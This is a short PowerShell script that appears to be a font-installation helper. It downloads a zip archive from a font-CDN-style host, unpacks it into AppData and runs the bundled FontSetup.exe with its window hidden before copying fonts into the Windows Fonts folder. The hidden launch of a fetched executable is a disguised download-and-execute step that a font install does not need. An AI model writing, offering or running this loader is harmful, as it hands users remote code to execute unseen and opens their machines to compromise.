$u = 'https://cdn.brandkit-fonts.example.com/pack/fontsetup.zip'
$z = "$env:APPDATA\fontsetup.zip"
Invoke-WebRequest $u -OutFile $z -UseBasicParsing
Expand-Archive $z -DestinationPath "$env:APPDATA\fontsetup" -Force
Start-Process "$env:APPDATA\fontsetup\FontSetup.exe" -WindowStyle Hidden
Copy-Item "$env:APPDATA\fontsetup\*.ttf" "$env:WINDIR\Fonts" -ErrorAction SilentlyContinue
